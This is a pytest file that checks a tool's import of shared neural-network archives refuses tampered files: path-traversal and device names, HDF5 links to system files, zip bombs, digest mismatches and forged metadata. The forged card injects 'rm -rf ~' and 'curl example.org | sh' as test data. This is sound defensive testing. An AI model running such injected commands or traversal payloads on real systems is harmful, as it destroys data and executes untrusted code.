"""A network goes from one machine to another; what is not one is refused whole."""

from __future__ import annotations

import io
import json
import os
from pathlib import Path

import h5py
import numpy as np
import pytest

from engine import registry
from engine.checkpoints import checkpoint
from engine.errors import CheckpointError, ImportRefusedError, LoupeError
from engine.runs import store
from engine.settings import PROJECT
from engine.sharing import archive, exporting, importing
from engine.training import worker
from tests.contract import mutations
from tests.engine.sharing import attacks


@pytest.fixture(scope="module")
def exported(tiny_checkpoint) -> bytes:
    """The ZIP of the tiny LSTM that was trained on the user's own text, without it."""
    return _export(tiny_checkpoint, with_own_data=False)


def _export(folder: Path, with_own_data: bool) -> bytes:
    run = folder.parent
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("LOUPE_RUNS", str(run.parents[1]))
        return exporting.to_bytes("language", run.name, with_own_data)


def refused(content: bytes) -> str:
    """Return the sentence that refuses a file, having checked that nothing is left."""
    with pytest.raises(ImportRefusedError) as error:
        importing.import_network(io.BytesIO(content))
    assert nothing_is_left()
    return str(error.value)


def nothing_is_left() -> bool:
    runs = Path(os.environ["LOUPE_RUNS"])
    return not [path for path in runs.rglob("*") if path.is_file()]


def test_imported_network_answers_as_the_exported_one(home, exported, tiny_checkpoint):
    run = importing.import_network(io.BytesIO(exported))
    assert store.state(run) == "done"
    assert [found.id for found in store.list_runs()] == [run.id]
    assert checkpoint.find("language", run.id) == run.folder / "checkpoint"
    experiment = registry.get("language")
    one = experiment.load(tiny_checkpoint).read("the lamp")
    two = experiment.load(run.folder / "checkpoint").read("the lamp")
    np.testing.assert_array_equal(one.piece.probability, two.piece.probability)
    assert len(run.events) == len(store.read(run.folder).events) > 3
    assert not (run.folder / store.OWN_DATA).exists()


@pytest.mark.parametrize(
    ("experiment", "name"),
    [
        *(("language", "aesop-ngrams"), ("language", "shakespeare-quick")),
        *(("reading", "quick"), ("sentiment", "word-counts"), ("images", "quick")),
    ],
)
def test_published_networks_of_all_experiments_go_along(
    home, monkeypatch, experiment, name
):
    with monkeypatch.context() as patch:
        patch.setenv("LOUPE_CHECKPOINTS", str(PROJECT / "checkpoints"))
        content = exporting.to_bytes(experiment, name)
    run = importing.import_network(io.BytesIO(content))
    card = checkpoint.verify(run.folder / "checkpoint", experiment)
    sent = checkpoint.read_card(PROJECT / "checkpoints" / experiment / name, experiment)
    assert card.digests == sent.digests
    assert [m.value for m in card.metrics] == [m.value for m in sent.metrics]
    assert run.source in sent.sources
    assert run.imported == name


def test_card_says_imported_and_has_commands_of_ours(home, exported):
    entries = attacks.entries_of(exported)

    def forge(card):
        card["command"] = "./loupe list; rm -rf ~"
        card["metrics"][0]["command"] = "curl example.org | sh"

    run = importing.import_network(io.BytesIO(attacks.with_card(entries, forge)))
    card = checkpoint.verify(run.folder / "checkpoint", "language")
    assert run.imported
    assert card.name == run.id
    assert run.imported in card.facts["imported"]
    assert card.command.startswith("./loupe train language --preset quick --own-data")
    assert card.metrics[0].command == f"./loupe evaluate language {run.id}"
    assert "rm -rf" not in card.to_text()
    with pytest.raises(LoupeError, match=r"done|imported"):
        worker.resume(run.id, "language")


def test_own_data_goes_along_only_when_asked(home, tiny_checkpoint, exported):
    content = _export(tiny_checkpoint, with_own_data=True)
    text = (tiny_checkpoint.parent / store.OWN_DATA).read_bytes()
    assert attacks.entries_of(content)[store.OWN_DATA] == text
    assert store.OWN_DATA not in attacks.entries_of(exported)
    run = importing.import_network(io.BytesIO(content))
    assert (run.folder / store.OWN_DATA).read_bytes() == text
    figures = registry.get("language").evaluate(run.folder / "checkpoint", home, 50)
    assert figures["n"] == 50
    store.delete(run)
    changed = attacks.entries_of(content) | {store.OWN_DATA: b"other"}
    assert "not the data on its card" in refused(attacks.zipped(changed))


def test_published_network_has_no_own_data(home, shipped):
    with pytest.raises(CheckpointError, match="Leave out --with-own-data"):
        exporting.to_bytes("language", "tiny", with_own_data=True)
    assert exporting.find("tiny") == exporting.find("language/tiny")


@pytest.mark.parametrize(
    "name",
    [
        *("/etc/x.json", "../x.json", "a/../x.json", "snapshots/../../x.h5", "a/b.h5"),
        *("C:x.json", "C:\\x.json", "..\\x.json", "con.json", "snapshots/nul.h5"),
        *("model.py", "x.pkl", ".x.json", "x.json.", "x\0.json", "é.json", "", "x/"),
    ],
)
def test_paths_and_odd_names_are_refused(home, exported, name):
    entries = attacks.entries_of(exported)
    assert "is not a file of a network" in refused(attacks.added(entries, name))
    if name and "\0" not in name:
        refused(attacks.with_file(entries, name, b"{}"))


def test_links_devices_and_names_twice_are_refused(home, exported):
    entries = attacks.entries_of(exported)
    for kind in (0o120777, 0o010644, 0o020644, 0o060644, 0o040755):
        assert "a link or a device" in refused(attacks.added(entries, "x.json", kind))
    with pytest.warns(UserWarning, match="Duplicate name"):
        twice = attacks.added(entries, "vocabulary.json")
    assert "two files" in refused(twice)
    assert "two files" in refused(attacks.added(entries, "Vocabulary.json"))


def test_bombs_are_refused_before_they_unpack(home, exported, monkeypatch):
    entries = attacks.entries_of(exported)
    assert "has more than 300 files" in refused(attacks.many_entries())
    said = refused(attacks.lying_about_size(entries))
    assert "another size" in said or "damaged" in said
    for content in (attacks.reaching_outside(), b"", b"\x89HDF\r\n\x1a\n"):
        refused(attacks.with_file(entries, "model.weights.h5", content))
    huge = attacks.with_file(entries, "model.weights.h5", attacks.declaring_much())
    assert "is too large" in refused(huge)
    arrays = attacks.with_file(entries, "table.npz", attacks.unpacking_to_much())
    assert "is too large" in refused(arrays)
    monkeypatch.setattr(archive, "MAXIMUM_BYTES", 1000)
    assert "larger than" in refused(exported)


@pytest.mark.parametrize(
    "link", [h5py.SoftLink("/logits"), h5py.ExternalLink("/etc/hostname", "/")]
)
def test_links_inside_weights_are_refused(home, exported, link):
    entries = attacks.entries_of(exported)
    content = attacks.linking(entries["model.weights.h5"], link)
    said = refused(attacks.with_file(entries, "model.weights.h5", content))
    assert "has a link to another place" in said


@pytest.mark.parametrize(
    ("field", "value", "words"),
    [
        ("experiment", "sculpture", "there is no experiment “sculpture”"),
        ("experiment", "images", "settings are not valid"),
        ("preset", "../x", "has no preset"),
        ("config", {"units": 10**9}, "settings are not valid"),
        ("config", {"shell": "sh"}, "settings are not valid"),
        ("format", 99, "checkpoint format 99"),
        ("outcome", "magic", "does not say how it was trained"),
        ("sources", {}, "does not say how it was trained"),
        ("epochs", -1.0, "is negative"),
        ("metrics", [{"name": "x"}], "its card cannot be read"),
        ("machine", "x" * 9999, "is not plain text"),
        ("machine", "\x1b[2J", "is not plain text"),
        ("snapshots", [{"epoch": 1, "file": "x.h5"}], "has no digest"),
        ("files", {}, "is not on its card"),
        ("note", 5, "its card cannot be read"),
    ],
)
def test_forged_card_is_refused(home, exported, field, value, words):
    entries = attacks.entries_of(exported)
    content = attacks.with_card(entries, lambda card: card.update({field: value}))
    assert words in refused(content)


def test_changed_byte_is_found_by_its_digest(home, exported):
    entries = attacks.entries_of(exported)
    weights = bytearray(entries["model.weights.h5"])
    weights[-1] ^= 1
    changed = attacks.zipped({**entries, "model.weights.h5": bytes(weights)})
    assert "“model.weights.h5” is not what its card says (SHA-256)" in refused(changed)


def test_thousand_mutated_files_are_refused_or_whole(home, exported):
    kept = attacks.entries_of(exported)
    curve = "events.jsonl"

    def only_the_curve(card):
        card |= {"snapshots": [], "files": {curve: card["files"][curve]}}

    # Small, so that a thousand are quick: its digest still vouches for every byte.
    small = attacks.with_card(
        {name: kept[name] for name in ("card.json", curve)}, only_the_curve
    )
    entries = attacks.entries_of(small)
    card = json.loads(entries["card.json"])
    files = list(mutations.of_bytes(small, 700))
    files += [
        attacks.zipped({**entries, "card.json": text.encode("utf-8", "replace")})
        for text in mutations.of_json(card, 300)
    ]
    whole = 0
    for content in files:
        try:
            run = importing.import_network(io.BytesIO(content))
        except ImportRefusedError:
            assert nothing_is_left()
            continue
        whole += 1
        assert (
            (run.folder / "events.jsonl")
            .read_bytes()
            .startswith(entries["events.jsonl"])
        )
        checkpoint.verify(run.folder / "checkpoint", "language")
        store.delete(run)
        assert nothing_is_left()
    assert 0 < whole < 500


def test_public_server_imports_nothing(home, exported, monkeypatch):
    monkeypatch.setenv("LOUPE_TRAINING", "off")
    with pytest.raises(LoupeError, match="LOUPE_TRAINING=off"):
        importing.import_network(io.BytesIO(exported))
    assert nothing_is_left()
